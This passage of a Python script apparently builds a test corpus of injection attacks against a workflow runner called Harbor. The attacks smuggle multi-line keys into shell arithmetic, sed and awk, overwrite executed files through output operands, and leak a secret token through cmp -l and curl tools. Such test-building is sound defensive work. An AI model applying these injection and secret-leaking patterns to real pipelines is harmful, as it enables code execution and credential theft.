''', {"format": SH + " #%h", "save_as": "scripts/zz-check.sh"}, "git log is read-only git, yet --output= writes its output (the caller's format) to the caller's path: a new scripts/*.sh that the accepted 'scripts run from a loop over the author's files' then runs.")

A("xxd-r-output-python", "reader-output-operand-writes-workdir", r'''
name: hex_restore
description: Restore a file of the project from an uploaded plain hex dump, then print the project's version.
args:''' + UP("text/plain", "The plain hex dump (xxd -p), base64.") + r'''
steps:
  - name: restore
    run: xxd -r -p -- "$ARG_input" "$ARG_output"
  - name: version
    run: |
      python3 -c 'import json; print(json.dumps({"version": "1.4.2"}))'
''', {"input": b64(PYPAY.hex() + "\n"), "output": "json.py"}, "xxd -r writes its second operand: the caller's json.py in the working folder, imported by the next literal python -c.")

A("iconv-o-makefile", "reader-output-operand-writes-workdir", r'''
name: to_utf8
description: Convert an uploaded Latin-1 text file to UTF-8 and save it in the project, then build the report.
args:''' + UP("text/plain", "The Latin-1 text (base64).") + r'''
steps:
  - name: convert
    run: iconv -f latin1 -t utf-8 -o "$ARG_output" -- "$ARG_input"
  - name: report
    run: make -s report
''', {"input": b64(MAKEPAY), "output": "Makefile"}, "iconv -o names the file it writes: the caller's, inside the project, over the Makefile that make reads.")

A("shuf-o-scripts-loop", "reader-output-operand-writes-workdir", r'''
name: sample_lines
description: Save a random sample of an uploaded list's lines into the project, then run the project's check scripts.
args:''' + UP("text/plain", "The list (base64).") + r'''
steps:
  - name: sample
    run: shuf -n 1000 -o "$ARG_output" -- "$ARG_input"
finally:
  - name: checks
    run: |
      for f in scripts/*.sh; do bash "$f"; done
''', {"input": b64(SH + "\n"), "output": "scripts/zz-sample.sh"}, "shuf -o writes the caller's line to scripts/zz-sample.sh; the finally: hook's loop over scripts/*.sh runs it.")

# ===================================================================== step-output-multiline-key-smuggle
NOTE = lambda inj: "released\n" + inj
A("smuggled-count-arith", "step-output-multiline-key-smuggle", r'''
name: release_summary
description: Record a release note with the changelog's length, then print the next section number.
args:
  note: {type: string, multiline: true, maxLength: 2000, description: The release note, a few lines.}
required: [note]
timeout: 30
steps:
  - name: stats
    run: |
      lines=$(wc -l < CHANGELOG.md)
      echo "lines=$lines" >> "$HARBOR_STEP_OUTPUT"
      echo "note=$ARG_note" >> "$HARBOR_STEP_OUTPUT"
  - name: next
    run: |
      echo "next section: $(( STEP_stats_lines + 1 ))"
''', {"note": NOTE("lines=a[$(" + SH + " >&2)]")}, "lines is a wc -l count (a number); note is caller data, but the multi-line note writes a second 'lines=' line after it: the key the checker holds as a count is the caller's text in arithmetic.")

A("smuggled-count-sed", "step-output-multiline-key-smuggle", r'''
name: changelog_head
description: Record a release note and the changelog's length, then print the changelog up to that length.
args:
  note: {type: string, multiline: true, maxLength: 2000}
required: [note]
timeout: 30
steps:
  - name: stats
    run: |
      printf 'lines=%s\n' "$(wc -l < CHANGELOG.md)" >> "$HARBOR_STEP_OUTPUT"
      printf 'note=%s\n' "$ARG_note" >> "$HARBOR_STEP_OUTPUT"
  - name: head
    run: |
      sed -n "1,${STEP_stats_lines}p" CHANGELOG.md
''', {"note": NOTE("lines=1p;1e " + SH)}, "The same smuggled key, read by sed's program ('a count is inert even in code'): GNU sed's e runs the rest.")

A("smuggled-count-awk", "step-output-multiline-key-smuggle", r'''
name: log_window
description: Record an operator's comment and the log's length, then print the last part of the log.
args:
  comment: {type: string, multiline: true, maxLength: 2000}
required: [comment]
timeout: 30
steps:
  - name: stats
    run: |
      n=$(wc -l < logs/app.log)
      printf 'lines=%s\ncomment=%s\n' "$n" "$ARG_comment" >> "$HARBOR_STEP_OUTPUT"
  - name: window
    run: |
      awk "NR <= $STEP_stats_lines" logs/app.log
''', {"comment": "ok\nlines=1 { system(\"echo HARBOR-PWNED-\" 6*7) }"}, "printf 'a=%s\\nb=%s\\n' to the step output (accepted in round 15) with a multi-line b: b's lines rewrite a, which awk's program gets.")

A("smuggled-count-hook", "step-output-multiline-key-smuggle", r'''
name: ticket_note
description: Save a ticket comment with the number of open TODOs; always report whether there are many.
args:
  comment: {type: string, multiline: true, maxLength: 2000}
required: [comment]
timeout: 30
steps:
  - name: count
    run: |
      todos=$(grep -c -e TODO -r src || true)
      echo "todos=$todos" >> "$HARBOR_STEP_OUTPUT"
      echo "comment=$ARG_comment" >> "$HARBOR_STEP_OUTPUT"
finally:
  - name: verdict
    run: |
      if (( STEP_count_todos > 10 )); then echo "many TODOs"; else echo "few TODOs"; fi
''', {"comment": "see below\ntodos=x[$(" + SH + " >&2)]"}, "In a finally: hook, (( )) on the count key that the multi-line comment rewrote.")

A("port-variable-custom-tool", "destination-built-in-variable", r'''
name: service_doctor
description: A model diagnoses a local service, reading its status endpoint (by port) with the team token.
args:
  service: {type: string, maxLength: 200, description: The service to diagnose.}
required: [service]
''' + SEC + r'''
tools:
  status_of:
    description: The /status answer of the local service on a port.
    args:
      port: {type: integer, minimum: 1024, maximum: 65535}
    required: [port]
    run: |
      url="http://127.0.0.1:$ARG_port/status"
      curl -sS --max-time 5 -H "Authorization: Bearer $API_TOKEN" "$url"
    timeout: 10
steps:
  - name: diagnose
    agent:
      model: ops
      system: You diagnose local services through their status endpoints.
      prompt: "Service: {{ args.service | data }}"
      tools: [status_of]
      max_turns: 4
''', {"service": "billing"}, "The host built in a variable from the model's port, in a custom tool that inherits the export's secret.",
  model_calls=[{"tool": "status_of", "args": {"port": 8080}}])

A("cmp-l-custom-tool", "secret-compared-by-cmp", r'''
name: token_doctor
description: A model helps the operator find out why the vault's token and the deployed one disagree, comparing a sample it is given.
args:
  report: {type: string, maxLength: 2000, description: What the operator saw.}
required: [report]
''' + SEC + r'''
tools:
  compare_token:
    description: Compare a sample token with the deployed one; lists the differing byte positions.
    args:
      sample: {type: string, minLength: 1, maxLength: 200}
    required: [sample]
    run: |
      printf '%s' "$API_TOKEN" > "$HARBOR_RUN_DIR/deployed"
      printf '%s' "$ARG_sample" > "$HARBOR_RUN_DIR/sample"
      cmp -l -- "$HARBOR_RUN_DIR/deployed" "$HARBOR_RUN_DIR/sample" || true
    timeout: 10
steps:
  - name: diagnose
    agent:
      model: ops
      system: You diagnose token mismatches.
      prompt: "Report: {{ args.report | data }}"
      tools: [compare_token]
      max_turns: 4
''', {"report": "deploys fail with 401"}, "cmp -l in a custom tool: the model's sample of 'x' bytes gets every byte of the secret back in octal.",
  model_calls=[{"tool": "compare_token", "args": {"sample": "x" * 16}}])


def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        if f[:3].isdigit():
            os.unlink(os.path.join(OUT, f))
    for i, (name, cls, y, args, why, extra) in enumerate(ATT, 1):
        base = os.path.join(OUT, "%03d-%s" % (i, name))
        open(base + ".yaml", "w").write(y)
        spec = {"args": args, "class": cls, "why": why}
        spec.update(extra)
        json.dump(spec, open(base + ".json", "w"), indent=1)
        assert "HARBOR-PWNED-42" not in json.dumps(spec["args"]) + json.dumps(spec.get("model_calls", []))
        for v in list(args.values()) + [a for c in spec.get("model_calls", []) for a in c["args"].values()]:
            if isinstance(v, str):
                try:
                    assert b"HARBOR-PWNED-42" not in base64.b64decode(v, validate=True)
                except (ValueError, base64.binascii.Error):
                    pass
    print(len(ATT), "attacks")


if __name__ == "__main__":
    main()
